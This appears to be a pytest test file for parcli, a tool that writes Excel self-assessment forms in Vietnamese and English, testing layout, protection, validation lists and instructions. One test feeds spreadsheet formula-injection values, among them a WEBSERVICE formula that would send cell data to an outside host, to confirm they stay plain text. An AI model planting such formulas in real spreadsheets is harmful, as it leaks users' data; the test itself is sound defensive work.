"""The form parcli writes (parcli/report/form.py): its layout, protection and validation lists, its
languages, its instructions, and text written as text, never as a formula."""

from __future__ import annotations

import re
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from tests.conftest import EXAMPLES, ROOT
from tests.inputs.test_form import form_of, hint_rows, result_json
from tests.office import convert

BAC_NINH = EXAMPLES / "bac-ninh-2021.yaml"

HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
FORMULA = re.compile(rb"<(?:\w+:)?f[\s/>]")  # a cell's formula (not <formula1> of data validation)


@pytest.mark.external
def test_text_is_written_as_text_never_as_a_formula(cli, tmp_path, write):
    """Framework titles, option titles, a unit's name, note and documents that start with = + - @ stay text,
    also after LibreOffice re-saves the form."""
    shutil.copy(HOSTILE / "fw-formula-titles.yaml", tmp_path / "fw.yaml")
    unit = write("u.yaml", """
        schema: parcli/unit/v1
        unit: '=WEBSERVICE("http://example.org/"&B3)'
        code: "=1+1"
        year: 2024
        framework: fw.yaml
        evidence:
          "1.1.1": {value: true, note: "=HYPERLINK(\\"http://x\\")", documents: ["=1+2", "@A1"]}
          "1.1.2": b
        """)
    forms = []
    for lang in ("vi", "en"):
        form = tmp_path / f"form-{lang}.xlsx"
        assert cli("convert", unit, "-o", form, "--lang", lang).exit_code == 0
        forms.append(form)
        with zipfile.ZipFile(form) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not FORMULA.search(z.read(name)), name
        wb = load_workbook(form)
        ws = wb.worksheets[0]
        assert ws["B2"].data_type == "s" and ws["B2"].value.startswith("=WEBSERVICE")
        assert ws["A1"].data_type == "s"
    resaved = dict(zip(forms, convert(forms, "xlsx", tmp_path / "lo"), strict=True))
    for form in forms:
        with zipfile.ZipFile(resaved[form]) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not FORMULA.search(z.read(name)), (form.name, name)
        shutil.copy(resaved[form], tmp_path / f"lo-{form.name}")
        run = cli("score", tmp_path / f"lo-{form.name}", "-f", "json")
        assert run.exit_code == 0, run.all
        assert '"unit": "=WEBSERVICE(\\"http://example.org/\\"&B3)"' in run.stdout
    lists = load_workbook(forms[1])["parcli_lists"]
    assert [c.value for c in lists["A"]] == ["=2+2", "plain, with a comma"]
    assert lists["A1"].data_type == "s"


def test_blank_form_layout_protection_validation(cli, tmp_path):
    out = tmp_path / "blank.xlsx"
    assert cli("template", "province-2020", "-o", out, "--lang", "vi").exit_code == 0
    wb = load_workbook(out)
    assert wb.sheetnames == ["Tự đánh giá", "Hướng dẫn", "parcli_lists", "parcli"]
    ws, meta = wb["Tự đánh giá"], wb["parcli"]
    assert meta.sheet_state == "hidden" and meta["A1"].value == "schema" and meta["B1"].value == "parcli/form/v1"
    assert wb["parcli_lists"].sheet_state == "hidden"
    rows = hint_rows(out)
    assert len(rows) == 8 + 43 + 102
    assert ws.protection.sheet and not ws.protection.password  # locked structure, no password
    leaf_row = rows["3.2.1"]
    assert ws[f"A{leaf_row}"].value == "3.2.1" and ws[f"A{leaf_row}"].protection.locked
    assert not ws[f"E{leaf_row}"].protection.locked and not ws[f"K{leaf_row}"].protection.locked
    kinds = {dv.type for dv in ws.data_validations.dataValidation}
    assert {"list", "decimal", "whole"} <= kinds
    lists = [dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert '"Có,Không"' in lists
    # a choice leaf's drop-down lists its options' titles (kept on a hidden sheet: titles may hold commas)
    choice = next(dv for dv in ws.data_validations.dataValidation if f"E{rows['1.1.1']}" in dv.sqref)
    column = choice.formula1.split("!")[1].split(":")[0].replace("$", "")[0]
    assert [wb["parcli_lists"][f"{column}{i}"].value for i in (1, 2, 3)] == ["Kịp thời", "Không kịp thời",
                                                                             "Không ban hành"]
    run = cli("validate", out)  # the placeholder in B2 is the one problem of a blank form: the unit's name is asked
    assert run.exit_code == 1 and "1 problem" in run.stdout, run.stdout
    assert "!B2: cell B2 (Tên đơn vị) still says 'Tên đơn vị', the blank form's placeholder" in run.stdout


def test_english_form(cli, tmp_path):
    out = form_of(cli, BAC_NINH, tmp_path / "en.xlsx", "--lang", "en")
    wb = load_workbook(out)
    assert wb.sheetnames == ["Self-assessment", "Instructions", "parcli_lists", "parcli"]
    assert wb["Self-assessment"]["E6"].value == "Value"
    assert result_json(cli, out) == result_json(cli, BAC_NINH)


def test_the_instructions_say_to_type_numbers_as_excel_shows_them(tmp_path):
    from parcli.report.form import write_form
    from parcli.store import Store

    fw = Store().framework("province-2020")
    for lang, words in (("vi", "Gõ số như Excel trên máy của bạn vẫn hiển thị"),
                        ("en", "Type numbers as your own Excel shows them")):
        path = tmp_path / f"{lang}.xlsx"
        path.write_bytes(write_form(fw, "province-2020", lang))
        help_ws = load_workbook(path).worksheets[1]
        text = "\n".join(str(c.value) for c in help_ws["A"] if c.value)
        assert words in text
